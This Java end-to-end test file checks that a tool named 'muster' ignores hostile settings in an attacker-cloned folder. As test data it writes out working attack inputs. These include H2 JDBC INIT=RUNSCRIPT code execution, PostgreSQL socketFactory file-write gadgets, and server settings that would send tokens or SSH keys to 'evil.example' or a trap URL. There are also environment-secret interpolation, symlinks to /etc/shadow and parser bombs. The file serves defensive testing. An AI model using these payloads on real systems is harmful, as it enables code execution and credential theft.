package dev.muster.e2e.escape;

import dev.muster.e2e.Workforces;
import dev.muster.e2e.Workforces.Worker;
import dev.muster.e2e.escape.SceneRun.Group;
import dev.muster.e2e.escape.SceneRun.Stage;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;

/// A folder that was cloned, with settings, a wave plan and instructions by an attacker.
final class FolderScenes implements Group {
  static final String TRUST = "A folder that was cloned steers nothing.";
  private static final int DEEP = 20_000;

  private int folders;

  @Override
  public String name() {
    return "folders";
  }

  @Override
  public void go(Stage stage) throws Exception {
    try (var camp = new Camp(stage.kit(), Machine.ofScenes(), "folders");
        var trap = new Trap()) {
      var loot = camp.root().resolve("loot");
      servers(stage, camp, trap, loot);
      PowerScenes.all(stage, camp, trap, loot, this::folder);
      databases(stage, camp, loot);
      languages(stage, camp, trap);
      workforces(stage, camp, loot);
      plans(stage, camp, trap);
    }
  }

  private Path folder(Camp camp, String settings) throws IOException {
    var folder = Files.createDirectories(camp.root().resolve("clone-" + ++folders));
    Files.writeString(folder.resolve("muster.conf"), settings);
    return folder;
  }

  private void servers(Stage stage, Camp camp, Trap trap, Path loot) {
    stage.scene(
        "settings-name-a-server",
        TRUST,
        () -> {
          trap.forget();
          camp.with("MUSTER_TOKEN", camp.secret());
          camp.musterIn(folder(camp, "server = \"%s\"".formatted(trap.url())), "status");
          camp.without("MUSTER_TOKEN");
          return Outcome.heldIf(
              trap.visits().isEmpty(), "the operator's token went to " + trap.visits());
        });
    stage.scene(
        "settings-name-a-file-as-token",
        TRUST,
        () -> {
          trap.forget();
          var key = camp.home().resolve(".ssh/id_canary");
          var settings = "server = \"%s\"\ntoken-file = \"%s\"".formatted(trap.url(), key);
          camp.musterIn(folder(camp, settings), "runs", "list");
          return Outcome.heldIf(
              trap.visits().isEmpty(), "a file of the operator went to " + trap.visits());
        });
    stage.scene(
        "settings-move-data-and-results",
        TRUST,
        () -> {
          var settings =
              "data = \"%s\"\nresults = \"%s\""
                  .formatted(loot.resolve("data"), loot.resolve("out"));
          camp.musterIn(folder(camp, settings), "runs", "list");
          return Outcome.heldIf(Files.notExists(loot), "made " + loot);
        });
    for (var setting :
        List.of(
            "http.host = \"0.0.0.0\"",
            "http.names = [\"evil.example\"]",
            "cluster.host = \"evil.example\"",
            "cluster.seeds = [\"evil.example:7410\"]")) {
      stage.scene(
          "settings-" + setting.replaceAll("[^a-z]+", "-"),
          TRUST,
          () -> {
            var said = camp.musterIn(folder(camp, setting), "config", "view");
            var value = setting.contains("0.0.0.0") ? "0.0.0.0" : "evil.example";
            return Outcome.heldIf(
                said.exit() != 0 || !said.out().contains(value), "believed: " + setting);
          });
    }
  }

  private void databases(Stage stage, Camp camp, Path loot) throws IOException {
    var script =
        Files.writeString(
            camp.root().resolve("init.sql"),
            """
            CREATE ALIAS IF NOT EXISTS OWN AS 'void own() throws Exception { new java.io.FileOutputStream("%s").write(1); }';
            CALL OWN();
            """
                .formatted(loot));
    for (var url :
        List.of(
            "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM '%s'".formatted(script),
            "jdbc:h2:mem:x;init=runscript from '%s'".formatted(script),
            "jdbc:h2:mem:x;TRACE_LEVEL_FILE=3;INIT=RUNSCRIPT FROM '%s'".formatted(script),
            "jdbc:h2:file:%s".formatted(loot),
            "jdbc:h2:tcp://127.0.0.1:1/x",
            "jdbc:postgresql://127.0.0.1:1/x?loggerLevel=TRACE&loggerFile=%s".formatted(loot),
            "jdbc:postgresql://127.0.0.1:1/x?socketFactory=java.io.FileOutputStream&socketFactoryArg=%s"
                .formatted(loot),
            "jdbc:postgresql://127.0.0.1:1/x?sslfactory=java.io.FileOutputStream&sslfactoryarg=%s&sslmode=require"
                .formatted(loot))) {
      stage.scene(
          "database-" + url.replace(script.toString(), "SCRIPT").replace(loot.toString(), "FILE"),
          TRUST,
          () -> {
            camp.musterIn(folder(camp, "database.url = \"%s\"".formatted(url)), "runs", "list");
            var there = loot(camp);
            Shell.tried("bash", "-c", "rm -rf " + loot + "*");
            return Outcome.heldIf(there.isEmpty(), "code of the folder ran or wrote: " + there);
          });
    }
  }

  static List<String> loot(Camp camp) throws IOException {
    try (var files = Files.list(camp.root())) {
      return files
          .map(it -> it.getFileName().toString())
          .filter(it -> it.startsWith("loot"))
          .toList();
    }
  }

  private void languages(Stage stage, Camp camp, Trap trap) {
    stage.scene(
        "settings-include-an-address",
        TRUST,
        () -> {
          trap.forget();
          camp.musterIn(
              folder(camp, "include url(\"%s/x.conf\")".formatted(trap.url())), "config", "view");
          return Outcome.heldIf(trap.visits().isEmpty(), "fetched: " + trap.visits());
        });
    stage.scene(
        "settings-read-the-environment",
        TRUST,
        () -> {
          var said =
              camp.musterIn(
                  folder(camp, "node.name = ${AWS_SECRET_ACCESS_KEY}"),
                  "config",
                  "view",
                  "--origin");
          return Outcome.heldIf(
              !said.all().contains(camp.secret()), "a secret of the environment became a setting");
        });
    stage.scene(
        "settings-include-a-file",
        TRUST,
        () -> {
          var secret =
              Files.writeString(camp.outside().resolve("s.conf"), "node.name = " + camp.secret());
          var said =
              camp.musterIn(
                  folder(camp, "include file(\"%s\")".formatted(secret)),
                  "config",
                  "view",
                  "--origin");
          return Outcome.heldIf(
              !said.all().contains(camp.secret()), "a file elsewhere became settings");
        });
    for (var bomb :
        List.of(
            "a{".repeat(DEEP),
            "a=[".repeat(DEEP),
            "a=${b}\nb=${a}",
            "a=${a}".repeat(1_000),
            "\0\0\0",
            "include \"muster.conf\"",
            "include required(file(\"/dev/zero\"))")) {
      stage.scene(
          "settings-bomb-"
              + bomb.replaceAll("\\W", "")
                  .substring(0, Math.min(12, bomb.replaceAll("\\W", "").length()))
              + "-"
              + bomb.length(),
          MessageScenes.PARSERS,
          () -> {
            var said = camp.musterIn(folder(camp, bomb), "config", "view");
            var broke =
                said.exit() < 0
                    || said.exit() > 8
                    || said.all().contains("StackOverflow")
                    || said.all().contains("at dev.muster");
            return Outcome.heldIf(!broke, "exit " + said.exit() + ": " + said.err());
          });
    }
  }

  private void workforces(Stage stage, Camp camp, Path loot) throws IOException {
    var escape =
        new Worker(
            1,
            1,
            "",
            "out.txt",
            Workforces.block("echo evil > " + loot + "; touch out.txt"),
            "test -e out.txt");
    Workforces.write(camp.workforce(), escape);
    stage.scene(
        "settings-switch-the-sandbox-off",
        TRUST,
        () -> {
          var folder = folder(camp, "sandbox = off");
          camp.musterIn(
              folder,
              "run",
              camp.workforce().toString(),
              "--target",
              camp.target().toString(),
              "--no-input",
              "--approve",
              "all",
              "--data",
              camp.data().toString(),
              "--results",
              camp.results().toString());
          var there = loot(camp);
          Shell.tried("rm", "-rf", loot.toString());
          return Outcome.heldIf(there.isEmpty(), "a block without a permit wrote on the host");
        });
    stage.scene(
        "workforce-with-traps",
        TRUST,
        () -> {
          var wf = Files.createDirectories(camp.root().resolve("traps"));
          Workforces.write(wf, Worker.simple(1, 1, ""));
          Files.writeString(
              camp.outside().resolve("WORKER_013_k.md"), "# Worker 013: " + camp.secret() + "\n");
          Shell.run(
              "bash",
              "-c",
              ("cd %s; mkfifo WORKER_002_f.md; ln -s /dev/zero WORKER_003_z.md; truncate -s 1T"
                   + " WORKER_005_b.md; ln -s /etc/shadow WORKER_006_s.md; ln -s . loop; ln -s %s"
                   + " more; ln -s /proc/self/mem WORKER_007_m.md; ln -s %s WORKER_008_k.md")
                  .formatted(wf, camp.outside(), camp.outside().resolve("WORKER_013_k.md")));
          var said = camp.muster("lint", wf.toString());
          List<String> wrong = new ArrayList<>();
          if (said.exit() < 0) wrong.add("lint does not end");
          if (said.all().contains("root:$")) wrong.add("a line of a private file is told");
          return Outcome.heldIf(wrong.isEmpty(), wrong.toString());
        });
  }

  private void plans(Stage stage, Camp camp, Trap trap) {
    for (var plan :
        List.of(
            "include url(\"URL/waves.conf\")",
            "name = ${AWS_SECRET_ACCESS_KEY}\nwaves = [{name = ${AWS_SECRET_ACCESS_KEY}}]",
            "include file(\"OUTSIDE/secret\")",
            "a{".repeat(DEEP))) {
      stage.scene(
          "plan-" + plan.substring(0, Math.min(20, plan.length())),
          TRUST,
          () -> {
            trap.forget();
            var file =
                Files.writeString(
                    camp.root().resolve("waves.conf"),
                    plan.replace("URL", trap.url()).replace("OUTSIDE", camp.outside().toString()));
            var said = camp.muster("plan", camp.workforce().toString(), "--waves", file.toString());
            List<String> wrong = new ArrayList<>();
            if (!trap.visits().isEmpty()) wrong.add("fetched " + trap.visits());
            if (said.all().contains(camp.secret())) wrong.add("told a secret");
            if (said.exit() < 0 || said.all().contains("StackOverflow"))
              wrong.add("broke: " + said.err());
            return Outcome.heldIf(wrong.isEmpty(), wrong.toString());
          });
    }
  }
}
